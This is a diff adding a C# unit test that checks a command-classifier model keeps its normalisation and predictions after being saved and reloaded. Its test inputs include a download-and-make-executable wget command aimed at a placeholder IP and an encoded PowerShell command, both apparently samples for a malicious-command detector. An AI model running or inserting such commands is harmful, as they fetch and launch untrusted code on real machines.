@@ -63,6 +63,28 @@ public class ModelFileVersionTests
     }
 
     [Fact]
+    public void The_default_preset_with_normalisation_round_trips()
+    {
+        CommandDataset data = CommandDataset.Load(SampleDataTests.SamplePath);
+        var options = TfidfLogisticRegressionOptions.Default with { Classifier = new() { InverseRegularization = 100, MaxIterations = 40 } };
+        var trained = TfidfLogisticRegressionClassifier.Train(data, options);
+        Assert.NotNull(trained.Normalization);
+        var stream = new MemoryStream();
+        ModelFile.Save(trained, stream);
+        var loaded = (TfidfLogisticRegressionClassifier)ModelFile.Load(new MemoryStream(stream.ToArray()), "m");
+        Assert.NotNull(loaded.Normalization);
+        double[] p = new double[trained.Labels.Count], q = new double[trained.Labels.Count];
+        foreach (string command in new[] { "cd /tmp; wget http://203.0.113.7/x && chmod +x x", "powershell -enc dwBoAG8AYQBtAGkA", "ls" })
+        {
+            trained.PredictProbabilities(command, p);
+            loaded.PredictProbabilities(command, q);
+            Assert.Equal(p, q);
+        }
+        var study = TfidfLogisticRegressionClassifier.Train(data, TfidfLogisticRegressionOptions.Study with { Classifier = new() { MaxIterations = 10 } });
+        Assert.Null(study.Normalization);
+    }
+
+    [Fact]
     public void Calibration_changes_probabilities_but_never_the_ranking()
     {
         TfidfLogisticRegressionClassifier raw = Trained();
